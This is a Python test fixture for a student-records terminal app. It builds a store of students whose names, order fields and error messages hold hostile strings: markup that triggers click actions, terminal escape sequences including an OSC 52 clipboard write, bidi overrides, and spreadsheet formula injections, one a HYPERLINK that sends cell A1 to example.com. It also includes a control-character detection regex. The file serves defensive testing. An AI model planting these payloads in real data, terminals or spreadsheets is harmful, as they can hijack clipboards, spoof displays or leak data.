"""Hostile strings, as an attacker would put them in the register, in MC's answers or in
a field staff type into, and a store of students who carry them.

The store is written to directly for what the importer or the MC gateway may refuse
(control characters, say): an older store may hold them all the same, and every screen
must show them as text.
"""
from __future__ import annotations

import datetime as dt
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from mleg_tui.domain.names import name_key
from mleg_tui.domain.text import visible

MARKUP = [
    "[@click=screen.dismiss('x')]Kliknij[/]",
    "[@click=app.quit]Wyjdź[/]",
    "[/]",
    "Anna [Maria] Nowak",
    "[bold red]Czerwona[/bold red] [link=https://example.com]strona[/link]",
    "[b]niedomknięty",
    "]]] [[[ [",
    "\\[ukośnik] $error $text-primary",
]
CONTROL = [
    "\x1b[2J\x1b[HEkran wyczyszczony",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07Schowek",  # OSC 52: write the clipboard
    "\x1b]0;tytuł okna\x1b\\Tytuł",
    "Back\x08\x08\x08\x08spacja",
    "Powrót\rkaretki",
    "\x01SOH \x05ENQ \x7fDEL",  # (NUL: PostgreSQL refuses it in text; tests of visible() have it)
    "Tab\tulator i nowa\nlinia",
    "\x9b2J C1 CSI \x9d0;OSC\x9c",  # 8-bit ESC sequences
]
BIDI = [
    "\u202eanirolaK\u202c Bachta",  # right-to-left override
    "\u2066izolacja\u2069 \u2067rtl\u2069 \u2068fsi\u2069",
    "\u202dLRO\u202c \u202aLRE\u202c \u202bRLE\u202c \u200fRLM \u061cALM",
]
LONG = ["Bardzo" + "długie" * 17 + "Nazwisko"]  # 116: wider than any column, as long as the store keeps
LONG_MESSAGE = "Bardzo długi komunikat MC " * 200  # MC's error message has no length limit
COMBINING = [
    "Z\u0336a\u0337l\u0338g\u0334o" + "\u0301\u0302\u0303\u0304" * 12,
    "Łukasz Z\u0307o\u0301łkiewski",  # Polish letters decomposed (NFD)
]
EMOJI = ["🎓 Anna 👩‍🎓 Nowak", "🇵🇱" * 10 + " Flaga", "😀" * 30]
SPREADSHEET = ['=HYPERLINK("http://example.com/?x="&A1;"klik")', "+1+1", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1"]

NAMES = MARKUP + CONTROL + BIDI + LONG + COMBINING + EMOJI + SPREADSHEET
# One or a few of each kind, for the slow walks through every screen of a student (the
# lists, the sweep and the command line take them all).
SAMPLE = [NAMES.index(n) for n in (*MARKUP[:4], MARKUP[6], CONTROL[0], CONTROL[1], CONTROL[4],
                                    CONTROL[6], CONTROL[7], BIDI[0], *LONG, COMBINING[0], EMOJI[0],
                                    SPREADSHEET[0])]

# What a terminal must never receive raw: C0 except LF (the outputs' own line breaks),
# DEL, C1, and the bidi controls.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def raw_controls(text: str) -> list[str]:
    """Every raw control character in `text`, as a readable list (empty when safe)."""
    return sorted({repr(c) for c in RAW_CONTROL.findall(text)})


def shown(name: str, width: int | None = None) -> str:
    """What a name looks like on screen: its marks; the first `width` characters of it."""
    text = visible(name)
    return text if width is None else text[:width]


ALBUM0 = 300000
STUDENTS = len(NAMES)
PENDING_ALBUM = str(ALBUM0 + STUDENTS)  # one more: a revocation waiting for MC
FAILED_ALBUM = str(ALBUM0 + STUDENTS + 1)  # and one whose latest order MC failed
EVERYTHING = " | ".join(NAMES)
LOGIN = "\x1b[2J[@click=app.quit]ewa[/]"  # who revoked: a login from the config is data too


@dataclass(frozen=True)
class Hostile:
    """One student of the hostile store: their first name is NAMES[index]."""

    index: int
    album: str
    name: str  # the whole name as stored
    current: int  # the live order: Do odbioru, with MC's QR text and activation code
    failed: int  # an earlier order MC failed, with MC's error code and message
    revoked: int  # the first order, revoked by LOGIN with the hostile text as the reason


def album(i: int) -> str:
    return str(ALBUM0 + i)


def build_hostile_store(make_ctx: Any, directory: Path, store: str | Path) -> list[Hostile]:
    """The students (through the importer and the services), each with three orders; then
    the store is written to as if the register and MC had sent the hostile strings: the
    name, the programme's code and name, MC's error code and message, QR text and
    activation code. Everyone is struck off since: the sweep lists them all."""
    from mleg_tui.domain.status import OrderStatus as S
    from mleg_tui.services import actions
    from support.register import enrolment
    from support.stores import import_rows, mc_moves, store_sql

    ctx = make_ctx()
    staff = make_ctx(login=LOGIN)
    rows = [enrolment(f"H{i}", album(i), f"Imię{i}", f"H{i}") for i in range(STUDENTS + 2)]
    report = import_rows(ctx, directory, *rows)
    assert report.persons_added == STUDENTS + 2, report.summary()
    out: list[Hostile] = []
    for i, text in enumerate(NAMES):
        a = album(i)
        revoked = actions.place_order(ctx, a).order_id
        actions.revoke_orders(staff, [revoked], text)
        failed = actions.place_order(ctx, a).order_id
        mc_moves(ctx, failed, S.W_TRAKCIE, S.BLAD, error_code="E-MC")
        current = actions.place_order(ctx, a).order_id
        mc_moves(ctx, current, S.W_TRAKCIE, S.DO_ODBIORU)
        last = f"H{i}"
        (pid,) = store_sql(store, "SELECT id FROM person WHERE album = ?", a)[0]
        key = name_key(text, last)
        store_sql(store, "UPDATE person SET first_name = ?, name_key = ? WHERE id = ?", text, key, pid)
        store_sql(store, "UPDATE orders SET name_key = ? WHERE person_id = ?", key, pid)
        store_sql(store, "UPDATE enrolment SET programme_code = ?, programme_name = ?, "
                         "status = 'STRUCK_OFF', status_date = ? WHERE person_id = ?",
                  text[:64], text[:250], dt.date(2025, 9, 1), pid)
        store_sql(store, "UPDATE orders SET error_code = ?, error_message = ? WHERE id = ?",
                  text[:64], f"{text} {LONG_MESSAGE}" if i == 0 else text, failed)
        store_sql(store, "UPDATE orders SET qr_code = ?, activation_code = ? WHERE id = ?",
                  text[:200], text[:64], current)
        out.append(Hostile(i, a, f"{text} {last}", current, failed, revoked))
    # A revocation waiting for MC, its reason every hostile string at once; a failed
    # order with every one of them in MC's message.
    pending = actions.place_order(ctx, PENDING_ALBUM).order_id
    mc_moves(ctx, pending, S.W_TRAKCIE)
    actions.revoke_orders(staff, [pending], EVERYTHING)
    failed = actions.place_order(ctx, FAILED_ALBUM).order_id
    mc_moves(ctx, failed, S.W_TRAKCIE, S.BLAD, error_code="E-MC")
    store_sql(store, "UPDATE orders SET error_code = ?, error_message = ? WHERE id = ?",
              CONTROL[0][:64], EVERYTHING, failed)
    for c in (ctx, staff):
        c.engine.dispose()
    return out
